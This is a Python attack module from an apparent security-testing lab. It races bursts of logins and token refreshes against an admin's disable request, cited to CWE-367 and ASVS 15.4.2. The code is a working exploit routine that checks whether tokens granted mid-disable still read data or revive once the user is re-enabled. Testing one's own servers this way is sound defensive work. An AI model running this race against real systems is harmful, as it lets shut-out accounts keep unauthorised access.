"""Log in, or renew, at the moment in which an admin shuts you out.

Exploits a server that looks whether a user is disabled, and grants something later. A password
takes long to check: meanwhile the user is shut out, and what is granted then outlives that. Or it
sleeps until the user is let in again.
Source: CWE-367 Time-of-check Time-of-use Race Condition,
https://cwe.mitre.org/data/definitions/367.html
ASVS: 15.4.2
"""

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, broke, got_in, refused
from attacks.lab.roles import ALL, disable_request, enrol_admin, must_have_admins, set_disabled
from attacks.lab.storms import must_serve_now, storm
from attacks.lab.target import NotApplicableError, Person, Target
from attacks.lab.ways_out import tokens_in, use_of

ROUNDS, LOGINS, RENEWALS = 8, 10, 4


def crowd(target: Target, admin: str, person: Person) -> list[httpx.Request]:
    """Build logins and renewals, with what shuts their user out in the middle."""
    login = target.login_request(person.username, person.password)
    kept = [target.tokens_of(person).get("refresh_token", "") for _ in range(2 * RENEWALS)]
    renewals = [target.refresh_request(token) for token in kept]
    before = [*[login] * LOGINS, *renewals[:RENEWALS]]
    behind = [*renewals[RENEWALS:], *[login] * LOGINS]
    return [*before, disable_request(target, admin, person), *behind]


@attack()
def run(target: Target) -> Outcome:
    """Send them at once, in a few rounds; use what was granted, also when let in again."""
    must_have_admins(target)
    admin = target.tokens_of(enrol_admin(target), scope=ALL)["access_token"]
    for _ in range(ROUNDS):
        person = target.enrol()
        after = storm(crowd(target, admin, person), target.page())
        must_serve_now(after)
        if after.unserved:
            return broke("some of many logins while a user is shut out are not served")
        won = tokens_in(after)
        if len(won) == len(after.successes):
            raise NotApplicableError("an admin shuts nobody out here")
        if any(target.read(tokens["access_token"]).is_success for tokens in won):
            return got_in("granted while an admin shuts the user out: a token that opens the data")
        # A refused renewal may end a log-in: so none is tried before the user is let in again.
        set_disabled(target, person, disabled=False)
        if use := use_of(target, won):
            return got_in(f"granted while an admin shuts the user out, who is let in again; {use}")
    return refused(f"{ROUNDS} times many logins and renewals while an admin disables: none lasts")
